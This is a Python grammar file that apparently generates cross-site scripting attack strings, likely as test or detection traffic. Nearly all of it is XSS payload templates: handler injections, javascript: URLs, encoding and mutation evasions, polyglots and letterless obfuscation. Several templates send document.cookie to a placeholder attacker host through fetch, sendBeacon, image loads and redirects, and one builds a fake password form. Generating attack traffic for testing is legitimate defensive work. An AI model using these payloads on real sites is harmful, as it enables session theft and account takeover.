"""Cross-site scripting: element, handler, separator and sink chosen apart.

Forms after the HTML Living Standard (event handler content attributes, elements), PortSwigger's
XSS cheat sheet (which elements fire which handlers) and OWASP's filter evasion page.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols, among_words, letters
from traffic.grammars.attacks.xss_names import ELEMENTS, HANDLERS

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "tag": ELEMENTS,
    "rawtag": ("‹tag›", "‹tag›", "‹tag›", "‹rnd›", "x", "xss", "a", "img", "svg", "‹abc›-‹abc›"),
    "on": tuple("on" + handler for handler in HANDLERS),
    "own": (
        "onload", "onerror", "onmouseover", "onfocus", "onclick", "‹on›", "‹on›", "‹on›",
    ),
    "sep": (
        " ", " ", " ", " ", "/", "//", "\t", "\n", "\x0c", "\r\n", "/‹abc›/", "%0a", "%09", "%0d",
        "+",
    ),
    "eq": ("=", "=", "=", "=", " = ", " =", "=\n", "%3d"),
    "lt": ("<", "<", "<", "<", "<", "<", "<<", "< ", "\\x3c", "&lt;", "%3C", "\\u003c"),
    "gt": (">", ">", ">", ">", ">", " >", "/>", "//", "", "//>", "<!--", "%3E"),
    "fn": ("alert", "alert", "alert", "confirm", "prompt", "eval", "eval", "fetch", "console.log"),
    "arg": (
        "1", "‹n›", "‹n›", "'‹rnd›'", '"‹rnd›"', "/‹rnd›/", "document.cookie", "document.domain",
        "origin", "document.location", "'XSS'", '"XSS"', "/XSS/.source",
        "String.fromCharCode(‹codes›)", "window.origin", "localStorage.getItem('‹id›')",
        "self.name", "",
    ),
    "codes": lambda rng: ",".join(str(rng.randint(32, 122)) for _ in range(rng.randint(2, 12))),
    "js": (
        "‹fn›(‹arg›)", "‹fn›(‹arg›)", "‹fn›(‹arg›)", "‹fn›(‹arg›);", "‹fn›`‹n›`", "‹fn›`‹rnd›`",
        "(‹fn›)(‹arg›)", "[‹n›].‹find¦map¦forEach¦some›(‹fn›)", "window['‹fn›'](‹arg›)",
        "top['al'+'ert'](‹arg›)",
        "self[‹/al/.source+/ert/.source¦'\\x61lert'¦'ale'+'rt'¦atob('YWxlcnQ=')›](‹arg›)",
        "eval(atob('‹b64s›'))", "eval(String.fromCharCode(‹codes›))", "eval('‹fn›(‹n›)')",
        "setTimeout('‹fn›(‹n›)',‹n›)", "setTimeout`‹fn›\\x28‹n›\\x29`", "Function('‹fn›(‹n›)')()",
        "new Function`‹fn›\\`‹n›\\``", "[]['constructor']['constructor']('‹fn›(‹n›)')()",
        "\\u0061lert(‹arg›)", "al\\u0065rt(‹arg›)", "location='//‹evil›?c='+document.cookie",
        "document.location='‹url›?c='+document.cookie",
        "window.location.href='‹url›?'+document.cookie",
        "new Image().src='‹url›?c='+document.cookie",
        "fetch('‹url›',{method:'POST',body:document.cookie})",
        "fetch('‹url›?'+btoa(document.cookie))", "navigator.sendBeacon('‹url›',document.cookie)",
        "import('‹url›')", "$.getScript('//‹evil›')", "document.body.innerHTML='‹words›'",
        "document.write('<script src=‹url›></script>')",
        "var x=new XMLHttpRequest();x.open('GET','‹url›');x.send()", "throw onerror=‹fn›,‹n›",
        "{onerror=‹fn›}throw ‹n›", "a=‹fn›,a(‹n›)", "‹fn›?.(‹n›)", "/*‹id›*/‹fn›/**/(‹n›)",
        "‹fn›&lpar;‹n›&rpar;", "‹fn›&#40;‹n›&#41;", "javascript:‹fn›(‹n›)",
        "Reflect.apply(‹fn›,window,[‹n›])", "window.onerror=‹fn›;throw+‹n›",
    ),
    "jsf": letters(30, 160, "[]()!+"),
    "qj": ("‹js›", '"‹js›"', "'‹js›'", '"‹js›"', "`‹js›`"),
    "jsurl": (
        "javascript:‹js›", "javascript:‹js›", "javascript:‹js›//",
        "javascript://‹%0a¦%0d%0a¦ ›‹js›", "javascript://‹word›.com/%0a‹js›",
        "java‹ ¦\t¦\n¦%09¦%0a¦&Tab;¦&NewLine;¦\x00¦&#x0A;›script:‹js›",
        "‹JAVASCRIPT¦JaVaScRiPt¦Javascript¦jAvAsCrIpT›:‹js›",
        "javascript‹&colon;¦&#58;¦&#x3a;¦%3a¦\t:¦ :›‹js›",
        "‹ ¦%01¦\x01¦&#1;¦%20¦\x0b›javascript:‹js›", "vbscript:msgbox(‹n›)", "livescript:‹js›",
        "data:text/html,<script>‹js›</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydC‹b64s›",
        "data:text/html;charset=utf-8,%3Cscript%3E‹fn›(‹n›)%3C/script%3E",
        "data:image/svg+xml,<svg onload=‹fn›(‹n›)>", "data:application/javascript,‹fn›(‹n›)",
    ),
    "src": (
        "x", "‹abc›", "/", "‹n›", "#", "//‹evil›", "about:", "x:x", "data:,‹abc›", "‹url›", "1",
    ),
    "out": (
        '"', "'", '">', "'>", '"/>', '"><‹tag›>', "</‹tag›>", '"></‹tag›>', "-->", "]]>",
        "</title>", "</textarea>", "</script>", "</style>", "--!>", "`>", '\\">', '\'">',
        "*/</script>", "%22%3E",
    ),
    "attr": (
        "autofocus tabindex=‹d›", "style=display:block", "style='width:1000px;height:1000px'",
        "contenteditable", "id=‹abc›", "src=‹src›", "href=#‹abc›", "accesskey=x", "class=‹id›",
        "hidden=until-found", "popover", "‹id›='‹id›'", "autofocus", "type=‹text¦image¦search›",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS, finish=among_words(0.3, ("", "", " ")))

RULES = _GRAMMAR.rules(
    script=(
        "‹lt›script>‹js›</script‹gt›", "‹out›<script>‹js›</script>",
        "<script‹sep›src‹eq›‹url›></script>", "<script‹sep›src='‹url›/‹id›.js'></script>",
        "‹out›<script src=//‹evil›></script>", "<script‹sep›‹id›>‹js›</script‹sep›>",
        "<script>‹js›‹//¦<!--¦¦;›</script>",
        "<script type='‹text/javascript¦module¦text/vbscript›'>‹js›</script>",
        "<script src=data:,‹js›></script>",
        "<‹SCRIPT¦ScRiPt¦sCrIpT¦Script›>‹js›</‹SCRIPT¦ScRipT¦script›>",
        "<script>/*‹id›*/‹js›/*‹id›*/</script>",
        "<script\\x‹20¦0d¦0a¦0c¦2f›type='text/javascript'>‹js›</script>",
        "<script>eval(‹location.hash.slice(1)¦name¦location.search›)</script>",
        "<script charset='‹UTF-7¦utf-16›'>‹js›</script>",
        "+ADw-script+AD4-‹fn›(‹n›)+ADw-/script+AD4-", "<script‹sep›x‹gt›‹js›</script‹sep›y>",
    ),
    handler=(
        "‹lt›‹rawtag›‹sep›‹on›‹eq›‹qj›‹gt›", "<‹rawtag›‹sep›‹attr›‹sep›‹on›‹eq›‹qj›‹gt›",
        "<‹tag›‹sep›‹on›‹eq›‹qj›‹sep›‹attr›>", "<‹tag›‹sep›‹attr›‹sep›‹on›‹eq›‹qj›>‹word›</‹tag›>",
        "‹out›<‹rawtag›‹sep›‹on›‹eq›‹qj›‹gt›", "‹out›<‹tag›‹sep›‹attr›‹sep›‹on›‹eq›‹qj›‹gt›",
    ),
    image_error=(
        "<‹img¦image¦IMG¦iMg›‹sep›src‹eq›‹src›‹sep›onerror‹eq›‹qj›‹gt›",
        "‹out›<img‹sep›src=‹src›‹sep›onerror=‹qj›‹gt›",
        "<‹video¦audio¦input type=image¦embed¦source¦script¦link rel=stylesheet›‹sep›src=‹src› "
        "onerror=‹qj›>",
        "<‹video¦audio›><source‹sep›onerror=‹qj›></‹video¦audio›>",
        "<img/src=`‹src›`‹sep›onerror=‹js›>", "<img src=‹src›:‹abc›‹sep›‹own›‹eq›‹qj›//",
        '<img‹sep›src‹eq›"‹src›"‹sep›alt=\'‹word›\' onerror=‹qj›>', "<img src=‹jsurl›>",
        "<img ‹lowsrc¦dynsrc¦srcset›='‹jsurl›'>", '<img """><script>‹js›</script>">',
        "<img src=1 href=1 onerror='‹js›'></img>",
    ),
    svg_and_math=(
        "<svg‹sep›onload‹eq›‹qj›‹gt›", "‹out›<svg‹sep›onload=‹qj›‹gt›",
        "<svg><script‹gt›‹js›</script></svg>",
        "<svg><‹animate¦set¦animatetransform¦animatemotion›‹sep›on‹begin¦end¦repeat›=‹qj› "
        "attributeName=x dur=‹d›s>",
        "<svg><a><animate attributeName=href values=‹jsurl› /><text x=20 y=20>‹word›</text></a>",
        "<svg><use href='data:image/svg+xml;base64,‹b64›#x'/></svg>",
        "<svg><a xlink:href='‹jsurl›'><text y=‹n›>‹word›</text></a></svg>",
        "<math><‹mtext¦mi¦mglyph›><table><mglyph><style><img src=‹src› onerror=‹js›>",
        "<math><maction actiontype='statusline#‹url›' xlink:href='‹jsurl›'>‹word›</maction></math>",
        "<svg><foreignobject><iframe srcdoc='<script>‹js›</script>'>",
        "<svg><style><img src=‹src› onerror=‹js›></style></svg>", "<svg><x><script>‹js›</x>",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="‹js›"/>',
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>‹js›</script></svg>',
    ),
    attribute_breakout=(
        '‹val›"‹sep›‹own›‹eq›‹qj›‹sep›‹abc›="', "‹val›'‹sep›‹own›‹eq›‹qj›‹sep›‹abc›='",
        '‹val?›"‹sep›autofocus‹sep›onfocus=‹qj›‹sep›"',
        "‹val?›' style='‹animation-name:‹rnd›¦position:fixed;top:0›' ‹own›='‹js›",
        '‹val?›" ‹own›="‹js›', "‹val?›` ‹own›=`‹js›", "‹val?›' ‹own›=‹js› //", '"‹own›=‹js›//',
        "'‹own›=‹js›//", '‹val›\\" ‹own›=‹js›//', "‹val›&quot; ‹own›=‹js› ‹abc›=&quot;",
        '‹val?›" ‹attr› ‹own›="‹js›"', '" accesskey="x" onclick="‹js›" x="',
    ),
    script_breakout=(
        "'-‹js›-'", '"-‹js›-"', "‹val›';‹js›;//", '‹val›";‹js›//', "‹val›\\';‹js›//", "'+‹js›+'",
        '"+‹js›+"', "\\'-‹js›//", "‹abc›'});‹js›;({'‹abc›':'", '"});‹js›;//',
        "</script><script>‹js›</script>", "‹val›');‹js›//", "${‹js›}", "`;‹js›;`", "‹n›;‹js›",
        "';‹js›;'", "*/‹js›/*", "'||‹js›||'", "\u2028‹js›", "-->\n‹js›",
    ),
    links=(
        "<a‹sep›href‹eq›‹jsurl›>‹word›</a>", '<a href="‹jsurl›">‹words›</a>',
        "‹out›<a href='‹jsurl›'>‹word›</a>", "<iframe‹sep›src‹eq›‹jsurl›‹gt›",
        '<iframe src="‹jsurl›"></iframe>',
        "<form‹sep›action‹eq›‹jsurl›><‹button¦input type=submit›>",
        "<button form=‹abc› formaction=‹jsurl›>‹word›", "<object‹sep›data‹eq›‹jsurl›>",
        "<embed‹sep›src‹eq›‹jsurl›>", "<base href=‹jsurl›>", "<base href=//‹evil›/>",
        "<meta http-equiv=refresh content='0;url=‹jsurl›'>",
        '<meta http-equiv="refresh" content="‹d›; url=‹url›">',
        "<input type=image src=‹src› formaction=‹jsurl›>", "<area href='‹jsurl›'>",
        "<isindex action=‹jsurl› type=image>", "<frameset><frame src=‹jsurl›></frameset>",
        "<link rel=‹stylesheet¦import¦preload› href='‹jsurl›'>", "[‹word›](‹jsurl›)",
        '![‹word›](‹src›"‹own›="‹js›)',
    ),
    script_url=("‹jsurl›", "‹jsurl›", "‹jsurl›?‹abc›=‹n›", "‹jsurl›/*‹url›*/"),
    srcdoc_and_frames=(
        '<iframe‹sep›srcdoc‹eq›"<script>‹js›</script>"></iframe>',
        "<iframe srcdoc='&lt;‹tag› ‹own›&equals;‹fn›&lpar;‹n›&rpar;&gt;'>",
        "<iframe srcdoc=&lt;script&gt;‹fn›&lpar;‹n›&rpar;&lt;/script&gt;>",
        "<iframe‹sep›onload=‹qj›‹gt›", "‹out›<iframe src=‹url› width=‹n› height=‹n›></iframe>",
        "<iframe src='//‹evil›' style='position:fixed;top:0;left:0;width:100%;height:100%'>"
        "</iframe>",
        "<portal src='‹url›' onload=‹js›>", "<fencedframe onload=‹js›>",
        "<object data='data:text/html;base64,‹b64›'></object>",
        "<embed src='data:text/html;base64,‹b64›'>",
        "<template shadowrootmode=open><script>‹js›</script></template>",
    ),
    style=(
        "<style>@import'‹url›/‹id›.css';</style>",
        "<style>@keyframes ‹abc#1›{}</style><‹tag› style='animation-name:‹abc#1›' "
        "onanimation‹start¦end›='‹js›'>",
        "<div style='background:url(‹jsurl›)'>", "<‹tag› style='width:expression(‹js›)'>",
        '<‹tag› style="xss:expr/*‹id›*/ession(‹js›)">', "<style>*{x:expression(‹js›)}</style>",
        '<div style="-moz-binding:url(\'‹url›/‹id›.xml#xss\')">',
        "<‹tag› style=behavior:url('‹url›')>", "<style><!--</style><script>‹js›//--></script>",
        "<style>input[value^='‹abc›']{background:url(‹url›)}</style>",
        "<xss style=transition:outline ontransitionend=‹js› tabindex=1>",
    ),
    mutation=(
        '<noscript><p title="</noscript><img src=‹src› onerror=‹js›>">',
        "<listing>&lt;img src=‹src› onerror=‹js›&gt;</listing>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=‹js›>",
        '<svg></p><style><a id="</style><img src=‹src› onerror=‹js›>">',
        '<xmp><p title="</xmp><svg/onload=‹js›>">',
        '<!--<img src="--><img src=‹src› onerror=‹js›//">',
        "<![CDATA[><img src=‹src› onerror=‹js›>]]>",
        '<title><a href="</title><img src=‹src› onerror=‹js›>',
        "<textarea><script>‹fn›(‹n›)</textarea><img src=‹src› onerror=‹js›>",
        "<b <script>‹js›//</script>0</script></b>", "<scr<script>ipt>‹js›</scr</script>ipt>",
        "<sc\x00ript>‹js›</sc\x00ript>", "<img onerror=‹js› src=a><!--",
        "<‹tag›<img src=‹src› onerror=‹js›>>", "%253Cscript%253E‹fn›(‹n›)%253C%252Fscript%253E",
        '<image src="‹src›""><‹tag› ‹own›=‹js›>',
    ),
    polyglot=(
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=‹js› )//%0D%0A%0d%0a//</stYle/</titLe/</te'
        "XtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=‹js›//>\\x3e",
        '\';‹fn›(String.fromCharCode(‹codes›))//\\\';‹fn›(String.fromCharCode(‹codes›))//";'
        '‹js›//--></SCRIPT>">\'><SCRIPT>‹js›</SCRIPT>',
        '">><marquee><img src=‹src› onerror=‹js›></marquee>"></plaintext\\></|\\>'
        "<plaintext/onmouseover=‹js›>",
        '\'"><‹tag›/‹own›=‹js›>//--><svg/onload=‹js›>',
        'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed>'
        '</script><html \\" onmouseover=/*&lt;svg/*/onload=‹js›//>',
        '\'"()&%<‹abc›><ScRiPt >‹fn›(‹n›)</ScRiPt>', '‹n›\'"><img/src=‹src›/onerror=.1|‹fn›``>',
        '\'>"><h1>‹rnd›</h1><script>‹js›</script>{{‹n›*‹n›}}',
    ),
    html_injection=(
        "‹out›<h1>‹words›</h1><script src=//‹evil›></script>",
        "<marquee‹sep›on‹start¦finish¦bounce›=‹qj›>‹word›</marquee>",
        "<details‹sep›open‹sep›ontoggle‹eq›‹qj›><summary>‹word›",
        "<body‹sep›on‹load¦pageshow¦hashchange¦resize¦focus¦beforeprint¦message›‹eq›‹qj›‹gt›",
        "<input‹sep›autofocus‹sep›onfocus‹eq›‹qj›‹gt›",
        "<‹select¦textarea¦button¦keygen›‹sep›autofocus‹sep›onfocus=‹qj›>",
        "<dialog open onclose=‹qj›><form method=dialog><button>‹word›</button></form>",
        "<video‹sep›src=‹src› on‹loadstart¦canplay¦loadeddata¦error¦progress›=‹qj›>",
        "<form action=‹url› method=post><input name=password type=password></form>",
        "<table background='‹jsurl›'><td>‹word›", "<bgsound src=‹jsurl›>",
        "<layer src='‹url›/‹id›.js'></layer>",
        "<xml id=‹abc#1›><i><b><img src=‹jsurl›></b></i></xml><span datasrc=#‹abc#1› datafld=B "
        "dataformatas=HTML>",
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=‹jsurl›>"
        "</object>",
        "<‹tag› ‹id›=‹id› popover id=‹abc#1› onbeforetoggle=‹js›><button popovertarget=‹abc#1›>",
    ),
    sinks=(
        "‹js›", "‹js›//‹word›", "document.write(unescape('%3Cscript%3E‹fn›(‹n›)%3C/script%3E'))",
        "document.getElementById('‹id›').innerHTML='<img src=‹src› onerror=‹js›>'",
        "element.insertAdjacentHTML('beforeend','<‹tag› ‹own›=‹fn›(‹n›)>')",
        "document.querySelector('‹id›').outerHTML=location.hash", "#<img src=‹src› onerror=‹js›>",
        "?‹id›=<script>‹js›</script>", "eval(location.hash.substr(1))#‹js›",
        "$('<img src=‹src› onerror=‹fn›(‹n›)>')", "document.cookie='‹id›=‹rand›;domain=.‹evil›'",
        "document.domain='‹evil›';‹js›",
        "with(document)body.appendChild(createElement('script')).src='//‹evil›'",
        "location.assign('‹jsurl›')", "parent.postMessage(document.cookie,'*')",
        "window.open('‹jsurl›')",
    ),
    without_letters=(
        "‹jsf›", "<script>‹jsf›</script>", "<‹tag› ‹own›=‹jsf›>",
        '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$};$.$($.$($.‹___¦'
        '$$$$›+"‹rnd›")())()',
        "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=‹d›; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ);//‹rnd›",
        "<svg onload=[‹n›].map(‹fn›)>‹jsf›",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][‹jsf›]",
        "(‹'al'¦'con'›+‹'ert'¦'firm'›)[‹n›]+‹jsf›",
    ),
    context_value=(
        "‹scheme›://‹word›.com/‹id›?‹abc›=‹jsurl›", "‹words› <‹rawtag›‹sep›‹own›=‹qj›> ‹words›",
        "‹name›<script>‹js›</script>@‹word›.com", '"<‹tag› ‹own›=‹js›>"@‹word›.com',
        '‹id›.jpg" onerror="‹js›', '"><img src=‹src› onerror=‹js›>.png',
        '‹id›?‹abc›=\'"/><script>‹js›</script>', "<b>‹words›</b><img src=‹src› onerror=‹js›>",
        '{"‹id›":"<‹tag›‹sep›‹own›=‹js›>"}', "<p>‹words›</p><script>‹js›</script>",
        "//‹word›.com/%22%3E%3Csvg%20onload=‹js›%3E",
    ),
)
